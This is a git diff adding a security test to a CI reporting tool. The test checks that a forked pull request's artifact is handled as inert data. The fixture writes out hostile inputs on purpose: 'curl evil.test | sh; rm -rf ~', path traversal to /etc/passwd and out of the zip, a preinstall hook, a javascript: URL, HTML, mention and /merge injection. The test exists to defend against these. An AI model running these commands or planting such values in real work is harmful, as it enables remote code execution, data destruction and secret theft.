@@ -1,8 +1,9 @@
-import { cpSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
+import { cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
 import { FORK_PERMISSIONS, startGitHubDouble } from "../../packages/testkit/src/github/index.ts";
 import type { GitHubDouble, GitHubDoubleOptions } from "../../packages/testkit/src/github/index.ts";
+import { zipOf } from "../../packages/testkit/src/double/zip.ts";
 import { runCli, temporaryFolder } from "../support/cli.ts";
 import type { CliResult } from "../support/cli.ts";
 import { PULL, shallow, smallConsumer, writeFiles } from "../support/consumer.ts";
@@ -221,4 +222,125 @@ describe("the second half for a fork", () => {
     expect(comment?.body).toContain("taken from run 1001");
     expect(double.violations).toEqual([]);
   });
+
+  test("takes a hostile artifact for data: nothing of it decides where, and nothing runs", async () => {
+    const { head } = consumer.pull;
+    const forked = { repository: "stranger/shop", repositoryId: 77 };
+    const pull = { ...consumer.pull, head: { ...head, ...forked } };
+    const victim = { ...consumer.pull, number: 999, head: { ...head, ref: "victim" } };
+    const first = { id: 1001, event: "pull_request", headSha: head.sha, headBranch: "change" };
+    const of = { headRepository: forked.repository, headRepositoryId: forked.repositoryId };
+    const seed = (name: string, files: Record<string, string>) => ({
+      name: `stagegate-${name}-1`,
+      runId: 1001,
+      archive: zipOf(files),
+    });
+    const hostile = hostileReport(head.sha);
+    const double = await startDouble({
+      pulls: [victim, pull],
+      runs: [
+        { ...first, ...of, status: "completed", conclusion: "failure" },
+        { id: 1002, event: "workflow_run", headSha: shas.base, headBranch: "main" },
+      ],
+      artifacts: [
+        seed("check-slo", { "reports/check-slo.json": JSON.stringify(hostile) }),
+        seed("load-test", {
+          "reports/load-test.json": '{"schema":"stagegate/report/v1","gate":7}',
+        }),
+        seed("run-e2e", { "reports/run-e2e.json": "{}", "../../stagegate.yml": "version: 1" }),
+        seed("all", {
+          "pr-number": "999",
+          "report.html": "<script>",
+          "report.json": JSON.stringify({ subject: { changeRequest: 999 } }),
+          "package.json": '{"scripts":{"preinstall":"touch owned"}}',
+        }),
+      ],
+      tokens: {
+        "second-token": {
+          login: "github-actions[bot]",
+          type: "Bot",
+          permissions: { actions: "read", contents: "read", "pull-requests": "write" },
+        },
+      },
+    });
+    const posted = await inJob(
+      {
+        double,
+        event: events.workflowRun(shas, { id: 1001, attempt: 1, conclusion: "failure" }),
+        job: "comment",
+        ref: shas.base,
+        env: { GITHUB_RUN_ID: "1002", GITHUB_TOKEN: "second-token" },
+      },
+      ["comment-report"],
+    );
+    expect(posted.code, posted.stderr).toBe(4);
+    expect(double.comments(999)).toEqual([]);
+    const [comment] = double.comments(PULL);
+    const body = comment?.body ?? "";
+    expect(body.replaceAll("\u200b", "")).toContain(
+      "the artifact stagegate-run-e2e-1 was left out",
+    );
+    expect(body).toContain("reports/load-test.json");
+    expect(body).not.toContain("rm -rf");
+    expect(body).not.toContain("accepted:");
+    expect(body).not.toMatch(/(^|[^\w`\\])@octocat/);
+    expect(body).not.toContain("<img");
+    expect(body).not.toMatch(/^\/merge/m);
+    expect(readdirSync(posted.cwd).sort()).toEqual([
+      ".git",
+      ".gitignore",
+      ".stagegate",
+      "cart",
+      "stagegate.yml",
+    ]);
+    expect(readFileSync(join(posted.cwd, "stagegate.yml"), "utf8")).toBe(CONFIG);
+    expect(double.violations).toEqual([]);
+  });
 });
+
+/** Fits its schema, and lies as much as it can. */
+function hostileReport(commit: string): object {
+  const text = "<img src=x> @octocat #1 \n/merge\n```\n| a |";
+  const subject = { forge: "github", repository: "acme/shop", commit, tested: commit };
+  const count = {
+    total: 1,
+    pass: 0,
+    warn: 0,
+    fail: 1,
+    inconclusive: 0,
+    skip: 0,
+    error: 0,
+    flaky: 0,
+  };
+  return {
+    schema: "stagegate/report/v1",
+    gate: "check-slo",
+    verdict: "fail",
+    enforcement: "all",
+    blocking: true,
+    exitCode: 4,
+    summary: text,
+    startedAt: "2026-11-01T10:00:00Z",
+    durationMs: 1,
+    subject: { ...subject, changeRequest: 999 },
+    versions: [],
+    run: { forge: "github", repository: "acme/shop", id: "1001", attempt: 1, url: "javascript:x" },
+    checks: [
+      {
+        id: "slo:/x#y",
+        title: text,
+        verdict: "fail",
+        message: text,
+        reproduce: "curl evil.test | sh; rm -rf ~",
+        accept: "check-slo:\n  accepted:\n    - x",
+      },
+    ],
+    counts: count,
+    metrics: [],
+    evidence: [{ id: "e", kind: "log", title: text, path: "../../../etc/passwd" }],
+    ranking: [],
+    notes: [text],
+    omitted: { checks: 0, findings: 0, evidence: 0 },
+    tool: { name: "stagegate", version: "9.9.9" },
+  };
+}
